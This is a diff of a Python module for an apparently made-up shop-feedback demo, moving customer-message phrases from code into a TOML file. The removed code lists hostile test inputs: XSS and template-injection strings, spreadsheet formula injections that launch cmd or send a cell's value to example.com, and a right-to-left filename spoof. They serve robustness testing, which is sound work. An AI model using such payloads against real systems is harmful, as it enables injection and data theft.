@@ -1,599 +1,64 @@
-"""What the customers of a made-up shop system say, as halves of sentences that a story puts together.
-
-A message is a core, which says what it is about and on which page, and a detail. No pair is used twice, so that two
-messages share one half at most and no pair of them is a near-duplicate by accident. Braces are filled from `FILLERS`.
-"""
+"""What the customers of a made-up shop system say: the texts of ``phrases.toml``, read when they are first needed."""
 
 from __future__ import annotations
 
-from dataclasses import dataclass
-from typing import TYPE_CHECKING, Final
+from functools import cache
+from importlib.resources import files
 
-if TYPE_CHECKING:
-    from collections.abc import Mapping
+import msgspec
 
-__all__ = [
-    "BROKEN",
-    "BY_TYPE",
-    "CANCELLED",
-    "DOCS",
-    "DUPLICATES",
-    "FILLERS",
-    "GROWING",
-    "HOSTILE",
-    "LOUD",
-    "NOTES",
-    "OTHER_TONGUES",
-    "Talk",
-]
+__all__ = ["Phrases", "Talk", "load"]
 
 
-@dataclass(frozen=True, slots=True)
-class Talk:
+class Talk(msgspec.Struct, frozen=True):
     """Sentences on one subject: ``cores`` are (path, text), ``details`` follow any of them."""
 
     cores: tuple[tuple[str, str], ...]
     details: tuple[str, ...]
 
 
-FILLERS: Final[Mapping[str, tuple[str, ...]]] = {
-    "browser": ("Firefox", "Chrome", "Safari", "Edge", "Brave", "Vivaldi", "Samsung Internet", "Opera"),
-    "device": ("an old iPad", "a Pixel phone", "my work laptop", "an iPhone", "a cheap Android tablet", "a Chromebook"),
-    "n": ("2", "3", "4", "6", "8", "11", "14", "17", "25", "30", "42", "60", "75", "120", "340"),
-    "money": ("£4.99", "12,50 €", "$19.00", "$240.10", "£36", "89 €", "$7.45", "1.199,00 €", "¥3,200", "CHF 58"),
-    "when": (
-        "since Monday",
-        "since last night",
-        "for two weeks now",
-        "every morning",
-        "since the weekend",
-        "on and off",
-        "after lunch today",
-        "at the end of each month",
-        "ever since I signed up",
-    ),
-    "product": (
-        "a walnut tray",
-        "the blue kettle",
-        "two linen shirts",
-        "a bag of coffee",
-        "a desk lamp",
-        "the gift box",
-        "a pair of boots",
-        "six mugs",
-        "the oak shelf",
-        "a rain jacket",
-    ),
-    "colleague": ("my co-founder", "our accountant", "a colleague", "the intern", "my sister", "our warehouse lead"),
-}
-"""What stands in braces, and what it may become."""
+class Phrases(msgspec.Struct, frozen=True, forbid_unknown_fields=True):
+    """All texts of the demo.
 
-_BUG: Final = Talk(
-    cores=(
-        ("/cart", "The basket forgets {product} as soon as I open a second tab."),
-        ("/cart", "Changing the quantity in the cart to {n} sets it back to 1."),
-        ("/cart", "Removing one line empties the whole basket."),
-        ("/checkout/payment", "My card was declined although the bank shows the hold of {money}."),
-        ("/checkout/shipping", "The delivery dates offered at shipping are all in the past."),
-        ("/checkout/shipping", "Express delivery vanishes once I enter a flat number."),
-        ("/checkout/review", "The VAT on the last step is rounded wrongly by a cent."),
-        ("/search?q=lamp&page=2", "Search page two repeats the results of page one."),
-        ("/search?q=%C3%BCbertopf", "Searching with an umlaut finds nothing at all."),
-        ("/products/{id}", "The zoomed picture of {product} stays grey in {browser}."),
-        ("/products/{id}", "Size and colour cannot both be chosen, one resets the other."),
-        ("/products/{id}", "Reviews below the product overlap with the footer."),
-        ("/de/products/{id}", "Auf der deutschen Seite stehen die Masse noch in Zoll."),
-        ("/account/orders", "Order history shows {n} orders, but I have placed twice as many."),
-        ("/account/orders/{id}", "The invoice download gives me a file of zero bytes."),
-        ("/account/orders/{id}", "Tracking link of my parcel leads to an error page."),
-        ("/account/addresses", "A saved address loses its second line after editing."),
-        ("/account/login", "Signing in loops back to the login form without a word."),
-        ("/account/login", "The one-time code arrives {n} minutes late and has expired by then."),
-        ("/settings/billing", "Billing page says the plan is unpaid though {money} was charged."),
-        ("/settings/team", "Invited staff land on a blank page instead of the shop."),
-        ("/settings/taxes", "Tax rules for islands are ignored and mainland rates apply."),
-        ("/admin/inventory", "Stock counts jump to minus {n} when two people edit at once."),
-        ("/admin/inventory?filter=low", "The low-stock filter lists items with plenty on the shelf."),
-        ("/admin/orders", "Bulk printing of labels stops at the {n}th order."),
-        ("/admin/orders/{id}", "Refunding part of an order refunds shipping as well."),
-        ("/admin/products/import", "CSV import drops the leading zeros of our article numbers."),
-        ("/reports/sales", "Sales chart counts cancelled orders as revenue."),
-        ("/reports/sales?range=month", "Monthly report starts on the 2nd, the first day is missing."),
-        ("/fr/cart", "Le panier affiche les prix hors taxes alors que nous vendons aux particuliers."),
-    ),
-    details=(
-        "Happens in {browser} only, another browser is fine.",
-        "I cleared cookies and tried a private window, no luck.",
-        "It used to work, it is broken {when}.",
-        "Steps: open the page, wait a little, press back, look again.",
-        "Seen on {device} with the newest system update.",
-        "The console prints a TypeError about undefined, if that helps.",
-        "Reloading {n} times makes it go away for a moment.",
-        "We lost at least {n} sales over this already.",
-        "My customers send me screenshots of it {when}.",
-        "Only when the shop language is not English.",
-        "With a slow connection it is worse, the spinner never ends.",
-        "Could somebody take a look before our sale starts?",
-        "Support told me to wait, but that was {n} days ago.",
-        "I can record a video if you tell me where to send it.",
-        "Logged-out visitors do not seem to be affected.",
-        "It took {colleague} an hour to find out why.",
-        "No message appears, it simply does not do anything.",
-        "Dark mode on or off makes no difference to this.",
-        "Our second shop on the same plan behaves well.",
-        "The mobile layout has the problem, the desktop one does not.",
-        "An ad blocker is not the reason, I switched it off.",
-        "Roughly one visitor in {n} reports the same.",
-        "Please put it back to how it was last year.",
-        "After midnight it works again, which puzzles all of us.",
-        "There was a red flash for a split second before it failed.",
-        "Even the preview inside the theme editor shows it.",
-    ),
-)
+    Attributes
+    ----------
+    fillers : dict of str to tuple of str
+        What stands in braces, and what it may become.
+    by_type : dict of str to Talk
+        Everyday talk by type.
+    broken, growing, loud, cancelled : Talk
+        What people say about the release that breaks payment, the request that more and more people make, one
+        customer on a bad day, and why people cancel.
+    docs : Talk
+        What readers of the manual say; the second project.
+    other_languages : dict of str to tuple of str
+        Short messages in other languages and scripts, by type.
+    duplicates : tuple of str
+        One complaint, by as many people, in nearly the same words.
+    notes : tuple of str
+        What the team notes down when it closes an item.
+    """
 
-_FEATURE: Final = Talk(
-    cores=(
-        ("/cart", "Let shoppers save a basket for later and mail themselves a link."),
-        ("/checkout/payment", "We need payment by invoice for business customers."),
-        ("/checkout/payment", "Please add instalments for orders above {money}."),
-        ("/checkout/shipping", "Pick-up in store with a time slot would be brilliant."),
-        ("/products/{id}", "A back-in-stock alert on sold-out items is badly missing."),
-        ("/products/{id}", "Allow videos next to the product pictures."),
-        ("/products/{id}", "Bundles: sell {product} together with something else at one price."),
-        ("/search", "Filters by several colours at the same time, please."),
-        ("/account/orders", "A button that orders the same things again."),
-        ("/account", "Passkeys instead of passwords for customer accounts."),
-        ("/settings/team", "Roles with finer rights, so that {colleague} sees stock but no revenue."),
-        ("/settings/integrations", "An integration with our bookkeeping would save a day a month."),
-        ("/settings/integrations", "Webhooks for stock changes, not just for orders."),
-        ("/admin/inventory", "Several warehouses with stock for each of them."),
-        ("/admin/inventory", "Barcode scanning with the phone camera when goods arrive."),
-        ("/admin/orders", "Split one order into {n} parcels with a label each."),
-        ("/admin/orders", "Tags on orders, and views that I can save per tag."),
-        ("/admin/products", "Scheduled price changes, to start a sale at midnight."),
-        ("/admin/discounts", "Discount codes that work once per customer."),
-        ("/admin/discounts", "Gift cards that can be paid out in several rounds."),
-        ("/admin/themes", "A staging copy of the theme, so we can try things safely."),
-        ("/admin/customers", "Customer groups with price lists of their own."),
-    ),
-    details=(
-        "Right now {colleague} does that by hand {when}.",
-        "Every other system we looked at has it.",
-        "We would move to the higher plan for this alone.",
-        "Around {n} customers asked for it this quarter.",
-        "Even a very simple version would do for a start.",
-        "Happy to test an early build with our own shop.",
-        "I voted for it years ago and still hope.",
-        "It would cut our support mail by a third, I guess.",
-        "At the moment a spreadsheet has to fill the gap.",
-        "Bonus points if it is reachable through the API.",
-        "The holiday season would be the best time to have it.",
-        "Please keep it optional, small shops will not want it.",
-        "We sell mostly {product} and similar, so it matters a lot to us.",
-        "A competitor round the corner advertises with exactly that.",
-        "Without it we have to say no to bigger clients.",
-        "Think of people with {n} articles or more.",
-        "Is something like that on the road map?",
-    ),
-)
+    fillers: dict[str, tuple[str, ...]]
+    by_type: dict[str, Talk]
+    broken: Talk
+    growing: Talk
+    loud: Talk
+    cancelled: Talk
+    docs: Talk
+    other_languages: dict[str, tuple[str, ...]]
+    duplicates: tuple[str, ...]
+    notes: tuple[str, ...]
 
-_IMPROVEMENT: Final = Talk(
-    cores=(
-        ("/cart", "The remove icon in the basket is tiny, I keep missing it."),
-        ("/checkout/review", "Show the full delivery address before the final click."),
-        ("/checkout/shipping", "Postcode first, then fill in the town automatically."),
-        ("/search?q=shirt", "Results should say why a thing is listed above another."),
-        ("/search", "Typing in search could wait a little before it jumps about."),
-        ("/products/{id}", "Put delivery time next to the price instead of far below."),
-        ("/products/{id}", "The size chart opens in a pop-up that hides the sizes."),
-        ("/account/orders", "Sort orders by newest, not by order number."),
-        ("/account/login", "Tell people that caps lock is on while they type."),
-        ("/account/addresses", "More contrast in the address form, grey on grey is hard to read."),
-        ("/settings/billing", "Invoices could carry our purchase number in the file name."),
-        ("/settings/taxes", "The tax table needs a search box once there are {n} rows."),
-        ("/admin/inventory", "Remember my column widths in the stock table."),
-        ("/admin/inventory", "Saving one row should not scroll the list back to the top."),
-        ("/admin/orders", "Keyboard shortcuts for next and previous order."),
-        ("/admin/orders/{id}", "Time stamps ought to show the shop's zone, not mine."),
-        ("/admin/products", "Duplicating a product takes {n} clicks, two would be enough."),
-        ("/admin/products/import", "The import should name the line it stumbles over."),
-        ("/reports/sales", "Weeks in the report start on Sunday, ours start on Monday."),
-        ("/reports/sales", "Colours in the sales chart are hard to tell apart."),
-        ("/admin/themes", "Loading of the theme editor feels slow, about {n} seconds."),
-        ("/es/checkout/review", "La traducción del último paso suena a máquina."),
-    ),
-    details=(
-        "A small thing, yet we meet it {when}.",
-        "Colleagues with weak eyes struggle with it.",
-        "On {device} it is worse than elsewhere.",
-        "It would spare us {n} clicks a day each.",
-        "New staff always ask me about that.",
-        "The older design handled this more gracefully.",
-        "Otherwise I like the page a great deal.",
-        "Could be a setting, if others disagree.",
-        "I timed it: {n} seconds on average.",
-        "Screen readers announce it in the wrong order, too.",
-        "My customers are mostly over sixty, so it counts.",
-        "An example from our shop: {product} confuses everybody.",
-        "With {browser} one has to zoom out to get there.",
-        "Not urgent, but it nags.",
-        "Just copy what the orders page does, that one is perfect.",
-        "We worked around it with a sticky note on the monitor.",
-        "It adds up during the busy weeks before the holidays.",
-    ),
-)
 
-_QUESTION: Final = Talk(
-    cores=(
-        ("/help/shipping", "How do I tell customers about a delay of {n} days?"),
-        ("/help/shipping", "Can I ship to islands at another rate?"),
-        ("/help/returns", "Who pays the postage if {product} comes back damaged?"),
-        ("/help/returns", "Is there a way to reopen a return that was closed?"),
-        ("/help/payments", "When will the payout of {money} reach my account?"),
-        ("/help/payments", "Which currencies can a shop on the small plan take?"),
-        ("/help/domains", "How long does a domain transfer usually take?"),
-        ("/settings/billing", "What happens to my data if I pause the plan?"),
-        ("/settings/team", "Does {colleague} need a paid seat for reading only?"),
-        ("/settings/integrations", "Where do I find the webhook secret again?"),
-        ("/admin/products/import", "What is the largest file that the import takes?"),
-        ("/admin/inventory", "Do reserved items count as in stock?"),
-        ("/admin/discounts", "Can two discount codes be combined on one order?"),
-        ("/admin/customers", "Is it possible to merge two accounts of one customer?"),
-        ("/reports/sales", "Are refunds taken off on the day of sale or of refund?"),
-        ("/reports/sales", "How far back do the sales figures go?"),
-        ("/account/orders", "Why does an order say on hold after payment?"),
-        ("/checkout/payment", "Do you keep card numbers anywhere?"),
-    ),
-    details=(
-        "The help page only covers the other case.",
-        "I searched for {n} minutes and gave up.",
-        "A short answer is enough, thanks.",
-        "{colleague} says one thing, the manual another.",
-        "We open in {n} days, so it is a bit pressing.",
-        "Asking for a shop with {n} articles.",
-        "The chat was closed when I tried {when}.",
-        "Maybe add that to the common questions?",
-        "I found three different answers in the forum.",
-        "It is about an order worth {money}, for what it's worth.",
-        "Sorry if this was asked before.",
-        "Our lawyer would like to have it in writing.",
-        "I could not find it on {device}, perhaps the menu is cut off.",
-        "Is there a difference between the plans here?",
-        "Please point me to the right page if it exists.",
-    ),
-)
+@cache
+def load() -> Phrases:
+    """Read the texts.
 
-_PRAISE: Final = Talk(
-    cores=(
-        ("/cart", "The new basket drawer is a joy to use."),
-        ("/checkout/review", "Bought {product} in under a minute, wow."),
-        ("/checkout/payment", "Paying with one tap works like a charm."),
-        ("/products/{id}", "Product pages load faster than anything I know."),
-        ("/search", "Search now understands my typos, great work."),
-        ("/account/orders", "Order tracking finally tells me something useful."),
-        ("/account/login", "Signing in with a link is so much nicer than passwords."),
-        ("/settings/billing", "Fair pricing, and invoices that my bookkeeper likes."),
-        ("/settings/team", "Setting up {n} staff accounts took ten minutes."),
-        ("/admin/inventory", "Stock-taking used to eat a weekend, now it is a morning."),
-        ("/admin/orders", "Label printing in bulk is the best thing since sliced bread."),
-        ("/admin/products/import", "Importing {n} articles went through at the first try."),
-        ("/admin/themes", "The theme editor lets me play without fear."),
-        ("/admin/discounts", "Our discount week ran without a single hiccup."),
-        ("/reports/sales", "I read the sales page with my morning coffee, lovely charts."),
-        ("/help/shipping", "Your help pages are written for humans, thank you."),
-        ("/help/payments", "Support solved my payout question within {n} minutes."),
-        ("/fr/products/{id}", "Les fiches produit sont superbes sur mobile."),
-    ),
-    details=(
-        "Please pass that on to whoever built it.",
-        "We switched from a rival and do not look back.",
-        "Even {colleague}, who hates computers, agrees.",
-        "Five stars from a tiny shop in the countryside.",
-        "Sales went up by {n} percent since then.",
-        "Keep it exactly as it is!",
-        "It makes the daily grind lighter.",
-        "Told {n} friends about it already.",
-        "The update was worth the wait.",
-        "I rarely write such notes, so take it as a big one.",
-        "Also works well on {device}, which surprised me.",
-        "One can tell that real shopkeepers were asked.",
-        "My only wish: do not change it next year.",
-        "Thanks for listening to us small fry.",
-        "The little animations make me smile every time.",
-        "Accessibility is spot on, too.",
-    ),
-)
-
-_OTHER: Final = Talk(
-    cores=(
-        ("/", "Looking for a press contact, could not find one."),
-        ("/", "Our shop will move to another street next month."),
-        ("/about", "I would like to write a thesis about shop systems like yours."),
-        ("/about", "Are you hiring in the support team?"),
-        ("/blog/{id}", "The picture in your latest article is of our workshop."),
-        ("/blog/{id}", "There is a typo in the third paragraph of the article."),
-        ("/partners", "We are an agency with {n} clients and want to partner."),
-        ("/partners", "Please remove our old logo from the partner page."),
-        ("/help/domains", "Just testing whether this form works."),
-        ("/account", "I received a newsletter that was meant for somebody else."),
-        ("/settings/billing", "Our company name changed, the papers are on the way."),
-        ("/admin/orders", "Somebody orders {product} again and again as a prank."),
-        ("/search", "Found you through a friend who sells pottery."),
-        ("/cart", "No complaint, only wanted to leave a note here."),
-    ),
-    details=(
-        "Who is the right person to talk to?",
-        "No hurry at all with the answer.",
-        "We met your people at a fair {when}.",
-        "The address on the web seems outdated.",
-        "I can send the documents as a scan.",
-        "Best reached in the mornings.",
-        "It concerns about {n} people.",
-        "Feel free to delete this afterwards.",
-        "{colleague} suggested that I write to you.",
-        "Greetings from a rainy harbour town.",
-        "A short confirmation would be kind.",
-        "This is not meant as a bug report.",
-    ),
-)
-
-BY_TYPE: Final[Mapping[str, Talk]] = {
-    "Bug": _BUG,
-    "Feature": _FEATURE,
-    "Improvement": _IMPROVEMENT,
-    "Question": _QUESTION,
-    "Praise": _PRAISE,
-    "Other": _OTHER,
-}
-"""Everyday talk by type."""
-
-BROKEN: Final = Talk(
-    cores=(
-        ("/checkout/payment", "The pay button does nothing when I click it."),
-        ("/checkout/payment", "Checkout hangs on the payment step and never comes back."),
-        ("/checkout/payment", "After entering the card the page turns white."),
-        ("/checkout/payment", "Cannot pay: the card form stays disabled."),
-        ("/checkout/payment", "I was charged {money}, yet no order exists."),
-        ("/checkout/payment", "Payment fails with 'unexpected token' in a red box."),
-        ("/checkout/payment", "Stuck at paying, the wheel spins for ever."),
-        ("/checkout/payment", "The card number field loses its last digit."),
-        ("/checkout/payment", "Wallet payment opens an empty sheet and closes again."),
-        ("/checkout/payment", "The security check of my bank never shows up."),
-        ("/checkout/payment", "None of my {n} customers got past the payment page today."),
-        ("/checkout/payment", "Going back from payment throws the whole order away."),
-    ),
-    details=(
-        "This started with your update.",
-        "Tried {browser}, same thing.",
-        "It cost us {n} orders so far, please hurry!",
-        "I had to take orders by phone instead.",
-        "Yesterday everything was fine.",
-        "On {device} as well as on a computer.",
-        "Three different cards, one result.",
-        "Please roll back whatever you changed.",
-        "We are losing real money every hour.",
-        "Small orders pass, anything above {money} does not.",
-        "My cart with {product} is still waiting.",
-        "The previous version had no such trouble.",
-    ),
-)
-"""What people say about the release that breaks the payment step."""
-
-GROWING: Final = Talk(
-    cores=(
-        ("/reports/export", "Please let us schedule the report export."),
-        ("/reports/export", "I want the sales export in my mailbox every Monday."),
-        ("/reports/export", "Automatic exports would end our weekly copy and paste."),
-        ("/reports/export", "Could exports run by themselves overnight?"),
-        ("/reports/export", "A recurring export to a shared folder is what we miss most."),
-        ("/reports/export", "Scheduled exports, please, as CSV."),
-        ("/reports/export", "Send the monthly export to {colleague} without my help."),
-        ("/reports/export", "Exports by timetable: daily, weekly, monthly."),
-        ("/reports/export", "Why must I press export by hand each time?"),
-        ("/reports/export", "Let an export start on the first of the month."),
-    ),
-    details=(
-        "We would use it from day one.",
-        "Our {n} branches all wait for figures.",
-        "Three of us in the office vote for this one.",
-        "It is the one task that nobody here likes.",
-        "Spreadsheet format matters less than the clock.",
-        "A mail with a link to the file would do nicely.",
-        "I forget it whenever I am on leave.",
-        "The tax office wants it punctually.",
-        "Any news on that since the last time I asked?",
-        "My old system had it in every plan.",
-        "In the time zone of the shop, ideally.",
-        "I would gladly pay {money} a month extra for it.",
-    ),
-)
-"""The request that more and more people make: exports on a schedule."""
-
-LOUD: Final = Talk(
-    cores=(
-        ("/cart", "Worst basket I have ever seen on the whole internet."),
-        ("/products/{id}", "Who designed these product pages, honestly?"),
-        ("/search", "Search is a bad joke and you know it."),
-        ("/account/orders", "Nobody reads what I write, so here it is once more."),
-        ("/settings/billing", "Give me back my {money} at once."),
-        ("/help/returns", "Returns take ages and the form is an insult."),
-        ("/admin/orders", "The orders list makes my blood boil."),
-        ("/", "Fire whoever approved the new front page."),
-    ),
-    details=(
-        "I will post this on every page until somebody calls.",
-        "Unbelievable, simply unbelievable what you get away with!!!",
-        "That is message number {n} of mine today.",
-        "SHAME ON YOU AND ON YOUR WHOLE OFFICE.",
-        "Even my grandmother would build it better.",
-        "Do you hear me now, or must I shout even louder?",
-        "I have all day and a fast keyboard.",
-        "Answer me today, or I go to the papers with it.",
-        "You have been warned by me several times before.",
-    ),
-)
-"""One customer, one very bad day."""
-
-CANCELLED: Final = Talk(
-    cores=(
-        ("", "Too expensive for what we use."),
-        ("", "Closing the shop at the end of the season."),
-        ("", "Switching to a system that our agency prefers."),
-        ("", "We only needed it for one project."),
-        ("", "Missing a proper till for the store."),
-        ("", "The last price rise to {money} was too much."),
-        ("", "Business is slow, cutting costs wherever possible."),
-        ("", "Never got round to finishing the set-up."),
-        ("", "Moving everything to a marketplace."),
-        ("", "Merged with another company that has its own tools."),
-        ("", "Customer support took {n} days to answer."),
-        ("", "I subscribed twice by mistake."),
-        ("", "Sales did not take off the way we hoped."),
-        ("", "Going back to selling at the weekly market."),
-        ("", "The trial was fine, but it is not for us."),
-        ("", "Retiring after {n} years, time for the garden."),
-    ),
-    details=(
-        "Might come back next year.",
-        "Nothing against the product itself.",
-        "Please delete all of our data soon.",
-        "It was good while it lasted.",
-        "Would return if there were a smaller plan.",
-        "Thanks to all of you for everything.",
-        "Kindly confirm the end date in writing.",
-        "Wish you all the best.",
-        "A pause option would have kept me.",
-        "The export helped to leave without pain.",
-        "{colleague} decided, not me.",
-        "No need to call me about it.",
-    ),
-)
-"""Why people cancel, asked by the payment provider."""
-
-DOCS: Final = Talk(
-    cores=(
-        ("/docs/quickstart", "The quickstart skips the step where the key is made."),
-        ("/docs/quickstart", "Followed the first page word by word and it worked."),
-        ("/docs/webhooks", "An example of verifying the signature is missing."),
-        ("/docs/webhooks", "Retry times of webhooks differ from what the table says."),
-        ("/docs/api/orders", "The order endpoint returns a field that is not listed."),
-        ("/docs/api/orders", "Paging is explained for products but not for orders."),
-        ("/docs/api/products", "Code sample for {n} variants does not compile."),
-        ("/docs/api/products", "Please show the limits next to each endpoint."),
-        ("/docs/themes", "Theme variables are listed, what they do is not."),
-        ("/docs/themes", "A picture of the block order would help."),
-        ("/docs/migration", "The migration guide saved us {n} hours."),
-        ("/docs/migration", "Step {n} of the guide refers to a menu that moved."),
-        ("/docs/changelog", "Could the changelog have a feed?"),
-        ("/docs/search", "Searching the manual for 'refund' finds only the index."),
-    ),
-    details=(
-        "Reading on {device}, in case it matters.",
-        "I would send a correction if the text were open.",
-        "Took me until the evening to work that out.",
-        "Apart from that, a very clear page.",
-        "{colleague} ran into it as well.",
-        "The older edition had it right.",
-        "A one-line note would be enough.",
-        "We link to it from our own handbook.",
-        "Copying the sample in {browser} adds odd spaces.",
-        "Maybe a short video?",
-        "It matters for our launch in {n} days.",
-        "Thanks for keeping these pages current.",
-        "The anchor links jump to the wrong heading.",
-        "I am new to this, so bear with me.",
-        "Version numbers on the page would avoid doubt.",
-        "Please keep the tone, I like it.",
-    ),
-)
-"""What readers of the manual say; the second project."""
-
-OTHER_TONGUES: Final[Mapping[str, tuple[str, ...]]] = {
-    "Bug": (
-        "Beim Wechsel der Lieferadresse springt die Seite nach oben.",
-        "Le bouton pour valider la commande est caché sur mon téléphone.",
-        "El filtro por color no recuerda lo que elegí.",
-        "Il carrello si svuota quando cambio lingua.",
-        "Zamówienie zniknęło z listy po odświeżeniu strony.",
-        "商品画像が読み込まれないことがあります 🐢",
-        "החשבונית נפתחת בלי שם החברה",
-        "Не приходит письмо с подтверждением заказа.",
-        "Το καλάθι δείχνει λάθος σύνολο με το κουπόνι.",
-    ),
-    "Feature": (
-        "J'aimerais pouvoir offrir un emballage cadeau à mes clients.",
-        "Vorrei stampare le etichette in un formato più piccolo.",
-        "Gostaria de ver as vendas por cidade no relatório.",
-        "注文履歴をCSVで保存できると助かります。",
-        "कृपया भुगतान पृष्ठ को हिंदी में उपलब्ध कराएँ",
-    ),
-    "Improvement": ("배송 조회 버튼이 너무 작아요.", "Me encanta el nuevo editor, pero tarda mucho en abrirse."),
-    "Question": (
-        "Können wir die Rechnung bitte auch auf Englisch bekommen?",
-        "¿Se puede cobrar el envío según el peso del paquete?",
-        "Kan jag byta valuta utan att starta en ny butik?",
-        "هل يمكن تغيير عنوان الشحن بعد الدفع؟",
-    ),
-    "Praise": (
-        "Die Suche findet nach dem Update endlich auch Artikelnummern. Danke!",
-        "Bravo pour la nouvelle page des commandes, c'est très clair.",
-        "结账页面很好用, 谢谢!",
-        "🎉🎉 Erste Bestellung über den neuen Shop! 🎉🎉",
-        "👍🏽 Läuft.",
-    ),
-}
-"""Short messages in other languages and scripts, by type."""
-
-DUPLICATES: Final = (
-    "I cannot find the return label, the link in the mail leads to an empty page.",
-    "I can not find the return label, the link in the mail leads to an empty page",
-    "Cannot find the return label, the link in the mail leads to an empty page!",
-    "I cannot find the return label. The link in the mail leads to an empty page.",
-    "i cannot find the return label, the link in the mail leads to an empty page",
-    "I cannot find the return label, the link in the email leads to an empty page.",
-    "I cannot find a return label, the link in the mail leads to an empty page.",
-    "I cannot find the return label; the link in the mail leads to an empty page.",
-    "Hi, I cannot find the return label, the link in the mail leads to an empty page.",
-    "I cannot find the return label, the link in the mail leads to an empty page...",
-    "I cannot find the return lable, the link in the mail leads to an empty page.",
-    "I cannot find the return label, the link in your mail leads to an empty page.",
-)
-"""One complaint, by as many people, in nearly the same words."""
-
-HOSTILE: Final[Mapping[str, str]] = {
-    "script": "<script>document.title='trapped'</script>Nice shop",
-    "script end": "A comment with </script><script>window.trapped=true</script> in the middle",
-    "image": '<img src=x onerror="window.trapped=true"> broken picture',
-    "style": "</style></title><svg onload=window.trapped=true> strange banner",
-    "link": "[our offer](javascript:window.trapped=true) and <a href='javascript:window.trapped=true'>here</a>",
-    "template": "Dear {{constructor.constructor('window.trapped=true')()}} ${7*7} {0} %s %(name)s",
-    "formula =": '=HYPERLINK("https://example.com/?x="&A1,"click")',
-    "formula +": "+1+cmd|' /C calc'!A0",
-    "formula -": "-2+3+cmd|' /C calc'!A0",
-    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "formula tab": "\t=1+1 after a tab",
-    "right to left": "Invoice \u202egpj.exe\u202c looks like a picture",
-    "marks": "Z\u0336\u0351\u0352a\u0334\u0350l\u0337\u0346g\u0338\u0343o\u0335\u0350 text climbs out of its line",
-    "invisible": "zero\u200bwidth\u200d and\ufeff a mark in the middle",
-    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 and a bell\x07",
-    "lines": 'first line\r\nsecond line\n\n\n\tindented, "quoted", and; separated, by | pipes',
-    "mentions": "@everyone <!channel> <@U012AB3CD> fixes #1 closes #2 ![pixel](https://example.com/pixel.png)",
-    "long": "This is a very long story about one very small button. " * 73,
-    "blank": "   ",
-    "empty": "",
-}
-"""Texts that harm careless programs, by the way they try it; ``long`` has 4,000 characters and a few."""
-
-NOTES: Final = (
-    "Fixed in the latest release.",
-    "Answered by mail.",
-    "Works as intended; the help page says so now.",
-    "Same as an older request, followed up there.",
-    "Not reproducible on our side.",
-    "Added to the plan for next quarter.",
-    "Refunded and closed.",
-    "The setting under Shop, Display does this.",
-    "Shipped behind a switch, rolled out since.",
-    "Thanked the customer.",
-)
-"""What the team notes down when it closes an item."""
+    Examples
+    --------
+    >>> path, text = load().broken.cores[0]
+    >>> path
+    '/checkout/payment'
+    """
+    return msgspec.toml.decode(files("seggwat_nb.demo").joinpath("phrases.toml").read_bytes(), type=Phrases)
